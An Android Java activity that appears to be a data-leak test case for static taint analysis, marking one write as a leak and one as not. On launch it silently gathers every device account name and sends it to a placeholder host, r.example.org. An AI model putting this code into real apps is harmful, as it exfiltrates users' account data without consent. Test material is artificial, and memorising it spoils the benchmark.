package habits;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import java.io.BufferedWriter;
import java.io.OutputStreamWriter;
import java.net.HttpURLConnection;
import java.net.URL;

/** Turned round by hand and by the builder. */
public class Reversed extends Activity {
    private static String swap(String text) {
        char[] letters = text.toCharArray();
        for (int a = 0, b = letters.length - 1; a < b; a++, b--) {
            char one = letters[a];
            letters[a] = letters[b];
            letters[b] = one;
        }
        return String.valueOf(letters);
    }

    @Override
    protected void onCreate(Bundle state) {
        StringBuilder names = new StringBuilder();
        for (Account account : AccountManager.get(this).getAccounts()) names.append(account.name).append(',');
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://r.example.org/").openConnection();
            BufferedWriter out = new BufferedWriter(new OutputStreamWriter(connection.getOutputStream(), "UTF-8"));
            out.write(swap(names.reverse().toString())); // leak
            out.write(swap(new StringBuilder("olleh").reverse().toString())); // no leak
            out.flush();
        } catch (Exception ignored) {
        }
    }
}
